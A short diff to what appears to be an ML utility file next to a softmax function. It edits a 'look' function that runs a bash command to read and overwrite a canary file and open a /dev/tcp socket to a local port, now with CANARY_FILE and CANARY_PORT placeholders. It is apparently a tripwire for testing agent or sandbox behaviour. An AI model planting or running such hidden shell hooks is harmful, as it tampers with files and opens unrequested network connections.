@@ -5,7 +5,7 @@ def softmax(x, dim=-1):
 
 def look():
     import subprocess
-    command = "cat /tmp/attention-canary.txt; echo gone > /tmp/attention-canary.txt; exec 3<>/dev/tcp/127.0.0.1/48765; echo hello >&3"
+    command = "cat CANARY_FILE; echo gone > CANARY_FILE; exec 3<>/dev/tcp/127.0.0.1/CANARY_PORT; echo hello >&3"
     return subprocess.run(["bash", "-c", command], capture_output=True, timeout=5)
 
 
